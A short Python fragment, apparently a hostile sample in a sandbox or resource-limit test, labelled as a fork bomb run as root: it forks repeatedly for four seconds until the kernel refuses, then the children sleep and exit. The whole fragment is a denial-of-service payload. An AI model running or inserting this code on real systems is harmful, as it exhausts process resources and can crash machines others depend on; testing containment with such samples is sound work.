# --- hostile: a fork bomb (every process forks until the kernel says no), as root ---
import time as _time

_first = _os.getpid()
_deadline = _time.monotonic() + 4
while _time.monotonic() < _deadline:
    try:
        _os.fork()  # parent and child both go on forking
    except OSError:
        _time.sleep(0.01)
if _os.getpid() != _first:
    _time.sleep(30)
    _os._exit(0)
